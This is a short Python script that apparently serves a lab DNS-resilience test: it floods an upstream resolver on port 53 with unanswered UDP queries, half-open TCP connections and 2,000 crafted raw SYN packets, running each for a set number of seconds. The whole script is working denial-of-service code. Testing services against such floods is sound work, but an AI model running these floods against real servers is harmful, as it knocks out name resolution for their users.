#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""flood.py silent|half-open|syn SECONDS: in a pod, as fast as it goes. For dns_flood.sh."""

import contextlib
import os
import selectors
import socket
import sys
import time

from labdns import UPSTREAM, packets, question, send_frames


def silent(end):
    """Queries that the resolver never answers: each holds a place until its time is up."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect((UPSTREAM, 53))
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                sock.send(question(f"silent-{os.urandom(8).hex()}.ok.example"))


def half_open(end):
    """Connections that send one byte and wait, opened again whenever they are closed."""
    selector = selectors.DefaultSelector()
    while time.monotonic() < end:
        if len(selector.get_map()) < 400:
            with contextlib.suppress(OSError):
                sock = socket.create_connection((UPSTREAM, 53), timeout=0.3)
                sock.send(b"\0")
                selector.register(sock, selectors.EVENT_READ)
        for key, _ in selector.select(0):
            selector.unregister(key.fileobj)
            key.fileobj.close()


def syn(end):
    frames = [packets.ip4("10.0.1.5", UPSTREAM, packets.TCP,
                          packets.tcp("10.0.1.5", UPSTREAM, 1024 + i, 53, packets.SYN, b"")) for i in range(2000)]
    while time.monotonic() < end:
        send_frames(frames)


{"silent": silent, "half-open": half_open, "syn": syn}[sys.argv[1]](time.monotonic() + int(sys.argv[2]))
